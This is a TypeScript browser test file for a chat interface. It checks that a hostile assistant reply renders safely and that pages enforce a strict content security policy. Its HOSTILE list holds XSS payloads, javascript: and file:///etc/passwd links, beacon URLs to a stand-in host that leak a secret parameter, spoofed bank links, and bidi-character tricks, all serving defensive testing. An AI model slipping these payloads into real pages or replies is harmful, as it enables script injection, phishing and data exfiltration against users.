import assert from 'node:assert/strict';
import { test } from 'node:test';
import { noBrowser as skip, withStage } from './browser.ts';
import { inPage, scrollsSideways } from './helpers.ts';

const HOSTILE = [
  '<script>globalThis.ran = 1</script><img src="https://beacon.example/a.png" onerror="globalThis.ran = 2">',
  '![beacon](https://beacon.example/b.png?secret=1) ![](//beacon.example/c.png)',
  '[click](javascript:globalThis.ran=3) [data](data:text/html,<script>1</script>) [up](/api/logout) [file](file:///etc/passwd)',
  '[https://bank.example](https://evil.example/login) <javascript:globalThis.ran=4> [tab](java\tscript:globalThis.ran=5)',
  '[https://bank.example](https://bank.example@evil.example)',
  'file\u202egnp.exe zero\u200bwidth \u{e0041}tag &lt;b&gt; &#x202e;bidi',
  `<iframe src="https://beacon.example/"></iframe><style>@import "https://beacon.example/s.css"</style><link rel="stylesheet" href="https://beacon.example/l.css"><base href="https://beacon.example/">`,
  `${'> '.repeat(500)}deep`,
  Array.from({ length: 200 }, (_, depth) => `${'  '.repeat(depth)}- item`).join('\n'),
  `| a | b |\n|---|---|\n| <svg onload=globalThis.ran=6> | ![x](https://beacon.example/d.png) |`,
  '```html\n<script>globalThis.ran = 7</script>\n```',
  'x'.repeat(100_000),
].join('\n\n');

test('a hostile reply runs nothing, loads nothing and hides nothing', { skip }, () =>
  withStage(async ({ scene, enter, gateway }) => {
    const { task } = scene.add({ title: '<b>Hi</b>\u202e', session: 'bad', reply: HOSTILE });
    await enter(async ({ page, requests, errors }) => {
      await page.goto(`${gateway.url}/chat/assistant/bad?steps=${task}`);
      const reply = page.locator('.answer .prose');
      await reply.getByText('item').first().waitFor();
      assert.equal(
        await reply.locator('img, script, iframe, style, link, base, svg:not(.icon), object, embed').count(),
        0,
      );
      const links = await inPage<string[]>(
        page,
        `[...document.querySelectorAll('.prose a')].map((each) => each.getAttribute('href') + ' ' + each.rel)`,
      );
      assert.ok(links.length >= 3, `only ${links.length} links`);
      for (const link of links) assert.match(link, /^(https?|mailto):\S* noopener noreferrer nofollow$/, link);
      const shown = await reply.innerText();
      assert.match(shown, /https:\/\/bank\.example \(evil\.example\)/);
      assert.match(shown, /fileU\+202Egnp\.exe/);
      assert.match(shown, /zeroU\+200Bwidth/);
      assert.match(shown, /U\+E0041tag <b> U\+202Ebidi/);
      assert.match(shown, /<script>globalThis\.ran = 1<\/script>/);
      assert.match(shown, /Image: beacon \(beacon\.example\)/);
      assert.equal(await inPage(page, 'globalThis.ran === undefined'), true);
      assert.equal(await scrollsSideways(page), false);
      assert.match(await page.title(), /\[U\+202E\]/);
      assert.deepEqual(
        requests.filter((url) => !url.startsWith(`${gateway.url}/`)),
        [],
      );
      assert.deepEqual(errors, []);
    });
  }),
);

test('the page has no inline script or style, and asks nobody but its gateway', { skip }, () =>
  withStage(async ({ enter, gateway }) => {
    await enter(async ({ page, requests, errors }) => {
      for (const path of ['/', '/work', '/inbox', '/models', '/nowhere/at/all']) {
        await page.goto(gateway.url + path);
        await page.locator('main').waitFor();
      }
      await page.getByText('This page does not exist.').waitFor();
      assert.equal(await inPage(page, `document.querySelectorAll('style, script:not([src]), [onclick]').length`), 0);
      const response = await page.request.get(`${gateway.url}/`);
      assert.match(
        response.headers()['content-security-policy'] ?? '',
        /default-src 'none'; script-src 'self'; style-src 'self'/,
      );
      assert.ok(requests.length > 10);
      assert.deepEqual(
        requests.filter((url) => !url.startsWith(`${gateway.url}/`)),
        [],
      );
      assert.deepEqual(errors, []);
    });
  }),
);
